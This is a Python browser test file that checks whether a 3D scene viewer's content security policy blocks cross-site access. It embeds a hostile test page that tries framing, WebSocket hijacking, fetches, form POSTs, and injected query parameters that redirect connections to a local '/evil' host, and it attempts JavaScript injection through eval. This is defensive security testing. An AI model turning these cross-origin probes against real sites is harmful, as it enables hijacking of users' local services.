"""The viewer in a real browser: it works under its content policy, and pages of other sites get nothing from it."""

import http.server
import json
import threading
from contextlib import contextmanager

import pytest

from tests.viewer.chromium import Chromium
from warpgs.synthetic.demo import split_spec, write_demo
from warpgs.viewer import server as connections
from warpgs.viewer.html import write_html
from warpgs.viewer.server import address, open_server, stop_server
from warpgs.viewer.watch import live_view
from warpgs.viewer.window import CROP, PATH, Window, content_of_run

viser = pytest.importorskip("viser")
pytestmark = pytest.mark.browser

TEXT = "(document.body?.innerText || '')"
"""Text of a page, in JavaScript."""
FOREIGN = """<!doctype html><title>foreign</title><iframe name=below></iframe><form method=post target=below></form><script>
const at=AT,other=location.host+'/evil',evil='?websocket=ws://'+other,played='?playbackPath=http://'+other,found={};
const wait=(what,turn)=>new Promise(done=>{
 const end=x=>done([what,String(x)]);setTimeout(()=>end('nothing'),20000);turn(end)});
const body=frame=>{try{return frame.contentDocument?'read':'closed'}catch(e){return 'closed'}};
const framed=(what,url)=>wait(what,end=>{const frame=document.createElement('iframe');frame.src=url;
 frame.onload=()=>setTimeout(()=>end(body(frame)),500);document.body.append(frame)});
const socket=(what,url)=>wait(what,end=>{try{const s=new WebSocket(url,'viser-vVERSION');
 s.onopen=()=>end('open');s.onerror=()=>end('refused')}catch(e){end('refused')}});
const fetched=(what,url,how)=>wait(what,end=>
 fetch(url,how).then(r=>r.text()).then(t=>end('read '+t.length),()=>end('refused')));
(async()=>{const tried=[];
for(const base of at){const ws=base.replace('http','ws');tried.push(
 framed('frame',base),framed('frame with websocket',base+evil),framed('frame with playback',base+played),
 socket('socket',ws),socket('socket at the top',ws.replace(/\\/$/,'')),
 fetched('fetch',base),fetched('fetch simple',base,{mode:'no-cors'}),
 fetched('post',base,{method:'POST',mode:'no-cors',body:'x=1'}))}
for(const base of at){document.forms[0].action=base;document.forms[0].submit()}
for(const [what,how] of await Promise.all(tried))(found[what]=found[what]||[]).push(how);
window.found=found})()</script>"""


@contextmanager
def site(page=""):
    """Another site on this machine, that counts what comes to it; yields its address and the paths that were asked for."""
    seen = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            seen.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(page.encode())

        def log_message(self, *_):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://localhost:{server.server_address[1]}", seen
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture(scope="module")
def folder(tmp_path_factory):
    """A scene and a run on it."""
    import warpgs

    folder = tmp_path_factory.mktemp("browser")
    write_demo(folder / "scene", views=8, width=48, height=36)
    config = warpgs.FitConfig(steps=12)
    warpgs.fit(str(folder / "scene"), config, split=split_spec(8), out=folder / "run", device="cpu", verbose=False)
    return folder


@pytest.fixture
def browser(tmp_path):
    """A browser."""
    opened = Chromium(tmp_path)
    yield opened
    opened.close()


@contextmanager
def viewing(folder, kind):
    """A listener of a command, with the scene in it: of `warpgs view`, or of `warpgs fit --view`."""
    content = content_of_run(folder / "run")
    if kind == "fit --view":
        with live_view(folder / "run", port=0) as live:
            live.look(content.model)
            assert live.wait_shown(60)
            yield live.server
        return
    server = open_server(0)
    window = Window(server, content)
    try:
        yield server
    finally:
        window.close()
        stop_server(server)


class Admitted(set):
    """Websockets, and how many there have ever been."""

    ever = 0

    def add(self, item):
        self.ever += 1
        super().add(item)


def trouble(browser) -> list[str]:
    """Lines of the console of the content policy, of scripts that failed, and of connections that were refused."""
    words = ("Content Security Policy", "Refused", "exception", "EvalError", "WebSocket connection")
    return [line for line in browser.console() if any(w in line for w in words)]


def test_the_viewer_works_under_its_policy(folder, browser, capfd):
    """The scene is seen, the panel answers, a reload connects anew, and messages cannot bring JavaScript."""
    with viewing(folder, "view") as server:
        browser.open(address(server))
        browser.wait(f"{TEXT}.includes('Gaussians') && {TEXT}.includes('cameras')")
        assert len(server.rules.browsers) == 1
        image = browser.picture_of(lambda found: found[150:, :500].std() > 0.05)
        assert image[150:, :500].std() > 0.05, trouble(browser)
        assert browser.value("location.href") == address(server)
        browser.value("[...document.querySelectorAll('label')].find(l=>l.innerText.includes('cameras')).click()")
        assert trouble(browser) == []
        browser.open(address(server))
        browser.wait(f"{TEXT}.includes('Gaussians')")
        server._websock_server.queue_message(viser._messages.RunJavascriptMessage(source="window.ran=1"))
        server.gui.add_markdown("what comes after it")
        browser.wait(f"{TEXT}.includes('what comes after it')")
        assert browser.value("typeof window.ran") == "undefined"
        for code in ("Function('return 1')()", "new Function('return 1')()", "(0,eval)('1')"):
            assert browser.value(f"typeof {code}") == "undefined"
        assert trouble(browser) == []
    assert "Traceback" not in capfd.readouterr().err


@pytest.mark.parametrize("kind", ["view", "fit --view"])
def test_a_foreign_page_gets_nothing(folder, browser, kind):
    """Frames, sockets, requests and forms, with and without the address, from another site: nothing opens or is written."""
    with viewing(folder, kind) as server:
        port = server.get_port()
        known = [f"http://{host}:{port}/" for host in ("127.0.0.1", "localhost")]
        # with the secret, too: a page that somehow learns it still gets no socket and no frame
        at = json.dumps([*known, address(server), address(server).replace("127.0.0.1", "localhost")])
        page = FOREIGN.replace("AT", at, 1).replace("VERSION", viser.__version__)
        with site(page) as (foreign, seen):
            server.rules.browsers = Admitted()
            browser.open(f"{foreign}/page")
            found = json.loads(browser.wait("window.found && JSON.stringify(window.found)"))
            assert browser.value("document.title") == "foreign"
            framings = [line for line in browser.console() if "Framing" in line and "frame-ancestors 'none'" in line]
            assert len(framings) >= 3 * 4, browser.console()
            assert set(found) == {
                "frame", "frame with websocket", "frame with playback", "socket", "socket at the top", "fetch", "fetch simple",
                "post",
            }  # fmt: skip
            for what, hows in found.items():
                assert len(hows) == 4 and set(hows) <= {"refused", "closed", "nothing", "read 0"}, (what, hows)
            for base in (*known, address(server)):  # and as the page that is looked at
                browser.open(f"{base}?websocket=ws://{foreign.removeprefix('http://')}/evil")
                browser.wait(f"{TEXT}.includes({connections.REFUSED.strip()!r})")
            assert not [path for path in seen if "evil" in path], seen
        assert server.rules.browsers.ever == 0
    assert not (folder / "run" / PATH).exists() and not (folder / "run" / CROP).exists()


def test_a_page_from_disk_obeys_no_parameters(folder, browser, tmp_path):
    """It shows its own model, and asks nobody, whatever stands behind its address."""
    write_html(tmp_path / "scene.html", content_of_run(folder / "run").model.gaussians())
    with site() as (foreign, seen):
        host = foreign.removeprefix("http://")
        for query in (
            f"websocket=ws://{host}/evil",
            f"playbackPath={foreign}/evil",
            "dummyWindowDimensions=fill&dummyWindowTitle=evil",
        ):
            browser.open(f"{(tmp_path / 'scene.html').as_uri()}?{query}")
            browser.wait("document.querySelector('canvas') !== null")
            assert browser.value("new URLSearchParams(location.search).size") == 0
            assert "evil" not in browser.value("document.body.innerText")
        assert seen == []
